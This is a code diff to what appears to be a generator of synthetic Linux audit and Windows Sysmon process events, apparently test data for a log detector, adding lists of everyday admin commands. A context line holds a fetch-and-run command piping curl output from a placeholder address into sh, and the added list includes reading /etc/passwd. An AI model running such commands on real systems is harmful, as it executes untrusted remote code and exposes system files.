@@ -35,6 +35,38 @@ const TEXTS: readonly ((number: number) => string)[] = [
   (number) => `curl http://192.0.2.${String(number % 250)}/a?b=${String(number)} | sh`,
 ];
 
+/** Everyday commands that behaviours of much text are about; each list has no factor in common with the kinds below. */
+const LINUX_COMMANDS = [
+  "systemctl restart rsyslog",
+  "service auditd status",
+  "curl -s -o /tmp/x http://192.0.2.1/a",
+  "ufw status",
+  "crontab -l",
+  "tar czf /tmp/a.tgz /etc/hosts",
+  "cp a.conf /etc/systemd/system/a.service",
+  "cat /etc/passwd",
+  "useradd -m nobody",
+  "chmod 755 /usr/local/bin/a",
+  "ssh nobody@192.0.2.1",
+  "bash -c 'echo a > /tmp/b'",
+  "docker ps",
+];
+const WINDOWS_COMMANDS = [
+  "ipconfig /all",
+  "sc query sense",
+  "net start winlogbeat",
+  "schtasks /query /fo csv",
+  "powershell -NoProfile -Command Get-Service",
+  "cmd /c whoami",
+  "wmic process list brief",
+  "reg query HKLM\\Software\\Example",
+  "netsh interface show interface",
+  "rundll32 shell32.dll,Control_RunDLL",
+  "7z a C:\\Temp\\a.zip C:\\Temp\\b",
+  "taskkill /im notepad.exe",
+  "msiexec /i C:\\Temp\\a.msi /quiet",
+];
+
 function addressOf(number: number): string {
   if (number % 3 === 0) return `fe80:0:0:0:0:0:0:${number.toString(16)}`;
   return number % 3 === 1 ? `192.0.2.${String(number % 250)}` : `10.0.0.${String(number % 250)}`;
@@ -48,7 +80,7 @@ const MADE: readonly ((number: number, text: Text) => object)[] = [
     user: "nobody",
     exe: "/usr/bin/cat",
     command: "cat",
-    arguments: `cat ${text(0)}`,
+    arguments: number % 3 === 0 ? `cat ${text(0)}` : LINUX_COMMANDS[number % LINUX_COMMANDS.length],
     pid: number,
     tty: number % 2 === 0 ? "pts0" : null,
     session: 1,
@@ -87,7 +119,8 @@ const MADE: readonly ((number: number, text: Text) => object)[] = [
     channel: SYSMON,
     exe: "C:\\Windows\\System32\\where.exe",
     user: "NT AUTHORITY\\SYSTEM",
-    command: `where ${text(0)}`,
+    command:
+      number % 3 === 0 ? `where ${text(0)}` : WINDOWS_COMMANDS[number % WINDOWS_COMMANDS.length],
     pid: String(number),
     message: `Process Create:\r\nProcessId: ${String(number)}\r\nParentImage: C:\\Windows\\System32\\cmd.exe`,
     host_metadata: { hostname: "rehearsal" },
